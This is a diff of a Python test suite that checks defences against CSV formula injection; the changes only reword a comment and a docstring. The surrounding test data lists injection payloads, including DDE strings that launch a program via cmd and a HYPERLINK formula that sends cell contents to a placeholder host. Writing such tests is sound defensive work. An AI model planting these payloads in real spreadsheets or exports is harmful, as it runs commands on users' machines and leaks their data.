@@ -29,7 +29,7 @@ from tests.support.errors import assert_error
 from tests.support.server import Server, server, until
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
-# What a spreadsheet would run, and what looks like its guard.
+# Texts that a spreadsheet would run, and texts that look like their guard.
 CELLS = (
     "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"click")', "=\"a\"", "=1\n+2", "==1", "=",
     "+1+1", "+1 (234) 567", "++", "+", "-1+1", "-2+3+cmd|' /C calc'!A0", "--", "-", "@SUM(1+1)*cmd|'x'!A0",
@@ -151,7 +151,7 @@ class TestFormulas:
     async def test_formulas_are_read_back_by_postgresql(
         self, manager: httpx.AsyncClient, text: str, postgres_template: str
     ) -> None:
-        """A reader of RFC 4180 that is nobody's of Python, and strict."""
+        """A strict reader of RFC 4180 that is not Python's."""
         names = text.partition("\r\n")[0].split(",")
         with psycopg.connect(f"{postgres_template}/postgres") as connection:
             columns = ", ".join(f"{name} text" for name in names)
